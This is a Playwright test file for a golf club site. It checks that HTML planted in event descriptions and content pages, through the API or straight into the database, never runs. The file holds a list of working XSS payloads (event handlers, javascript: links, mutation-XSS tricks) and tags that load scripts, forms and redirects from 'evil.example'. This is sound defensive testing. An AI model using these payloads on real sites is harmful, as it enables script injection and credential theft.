/** A script that somebody plants in a text of the club never runs, whether it came by the api or straight into the database. */
import { openDatabase } from '@fourball/db/connection.ts';
import { createPage, updatePage } from '@fourball/shared/club/page-calls.ts';
import type { ContentPage } from '@fourball/shared/club/shapes.ts';
import { createEventType, updateEventTypeAbout } from '@fourball/shared/seasons/event-type-calls.ts';
import type { EventType } from '@fourball/shared/seasons/shapes.ts';
import { expect, type Page } from '@playwright/test';
import { eventTypeBody } from '../kit/seasons/event-types.ts';
import { clubDatabaseUrl, test } from './club.ts';
import { apiOf, openPage } from './golfers.ts';

/** Where a planted text would send what it learns. */
const elsewhere = 'https://evil.example';

/** Each sets `window.ran` if a browser ever runs it. */
const scripts = [
  '<p>An honest sentence.</p>',
  '<script>window.ran = "script"</script>',
  `<script src="${elsewhere}/x.js"></script>`,
  '<img src="/no-such-picture" onerror="window.ran = \'img\'">',
  '<svg onload="window.ran = \'svg\'"><script>window.ran = "svg script"</script></svg>',
  '<iframe srcdoc="<script>parent.ran = \'srcdoc\'</script>"></iframe>',
  '<iframe src="javascript:parent.ran = \'iframe\'"></iframe>',
  '<a href="javascript:window.ran = \'link\'">An honest link</a>',
  '<p onpointerenter="window.ran = \'pointer\'" onclick="window.ran = \'click\'">An honest paragraph</p>',
  '<details open ontoggle="window.ran = \'details\'"><summary>x</summary></details>',
  '<input autofocus onfocus="window.ran = \'focus\'">',
  '<video><source onerror="window.ran = \'video\'"></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=2>">',
  '<template><script>window.ran = "template"</script></template>',
].join('');

/** What steers a page without a script is taken out of the text; no policy would stop all of it. */
const planted = [
  scripts,
  `<form action="${elsewhere}"><button>Log in again</button></form>`,
  `<link rel="stylesheet" href="${elsewhere}/x.css"><base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  '<p id="root" style="position:fixed;inset:0;background:red">over everything</p>',
].join('');

interface Watched {
  page: Page;
  /** Dialogs, and requests to elsewhere. */
  seen: string[];
}

async function watched(open: Promise<Page>): Promise<Watched> {
  const page = await open;
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  // Answered with what would give it away; what the policy stops never gets here.
  await page.route(`${elsewhere}/**`, (route) => {
    seen.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.ran = "fetched"' });
  });
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      violations.push(effectiveDirective);
    });
  });
  return { page, seen };
}

const ran = (page: Page) => page.evaluate(() => (window as { ran?: unknown }).ran ?? null);
const violations = (page: Page) =>
  page.evaluate(() => (window as unknown as { violations: string[] }).violations);

/** Reads the page, points at and clicks what was planted, and finds that nothing happened but reading. */
async function expectNothingRan({ page, seen }: Watched, path: string, title: string): Promise<void> {
  await page.goto(path);
  await expect(page.getByRole('heading', { name: title }).first()).toBeVisible();
  await expect(page.getByText('An honest sentence.')).toBeVisible();
  await page.getByText('An honest paragraph').hover();
  await page.getByText('An honest paragraph').click();
  await page.getByText('An honest link').click();
  expect(await ran(page)).toBeNull();
  expect(seen).toEqual([]);
  expect(new URL(page.url()).pathname).toBe(path);
  expect(
    await page
      .locator('script:not([src]), iframe, object, embed, form[action], base, main svg script')
      .count(),
  ).toBe(0);
  // The page's own root is the only one, and nothing lies over it.
  expect(await page.locator('#root').count()).toBe(1);
  expect(await page.evaluate(() => document.baseURI.startsWith(window.location.origin))).toBe(true);
}

/** Past every sanitiser, in the page itself: the policy of the page is what stops it. */
async function expectPolicyHolds({ page, seen }: Watched): Promise<void> {
  await page.evaluate((html) => {
    document.body.insertAdjacentHTML('beforeend', html);
    for (const source of [null, 'https://evil.example/x.js']) {
      const script = document.createElement('script');
      if (source === null) script.textContent = 'window.ran = "inserted"';
      else script.src = source;
      document.body.append(script);
    }
  }, scripts);
  await expect
    .poll(async () => [...new Set(await violations(page))])
    .toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr']));
  expect(await ran(page)).toBeNull();
  expect(seen).toEqual([]);
}

test('planted in what is said about an event, through the api and past it', async ({ browser }) => {
  const admin = await apiOf('admin');
  const create = async (domain: string, orgName: string) =>
    (await admin.call(createEventType, {
      ...eventTypeBody,
      website: null,
      logo: '',
      domain,
      orgName,
    })) as EventType;
  const bySql = await create('planted-by-sql', 'Planted by SQL');
  const byApi = await create('planted-by-api', 'Planted by the api');
  await admin.call(updateEventTypeAbout, { eventTypeId: byApi.id, aboutHtml: planted });
  const db = openDatabase({
    url: clubDatabaseUrl(),
    poolSize: 1,
    applicationName: 'journeys',
  });
  try {
    await db.query('update event_types set about_html = $2, contact_html = null where id = $1', [
      bySql.id,
      planted,
    ]);
    for (const { domain, orgName } of [bySql, byApi]) {
      const visitor = await watched(openPage(browser));
      await expectNothingRan(visitor, `/site/${domain}`, orgName);
      await expectPolicyHolds(visitor);
      await visitor.page.context().close();
    }
  } finally {
    await db.query('delete from event_types where id = any($1)', [[bySql.id, byApi.id]]);
    await db.close();
  }
});

test('planted in a page, through the api and past it', async ({ browser }) => {
  const admin = await apiOf('admin');
  const { pageId, title, elements } = (await admin.call(createPage, { type: 'COURSE' })) as ContentPage;
  const db = openDatabase({
    url: clubDatabaseUrl(),
    poolSize: 1,
    applicationName: 'journeys',
  });
  try {
    const htmlElements = [{ type: 'DIV' as const, text: planted }];
    await admin.call(updatePage, { pageId, title, htmlElements });
    for (const past of [false, true]) {
      if (past) await db.query('update page_elements set text = $2 where page_id = $1', [pageId, planted]);
      const visitor = await watched(openPage(browser));
      await expectNothingRan(visitor, '/page/course', title);
      await expectPolicyHolds(visitor);
      await visitor.page.context().close();
    }
  } finally {
    await admin.call(updatePage, {
      pageId,
      title,
      htmlElements: elements.map((element) => ({ ...element, id: null })),
    });
    await db.close();
  }
});
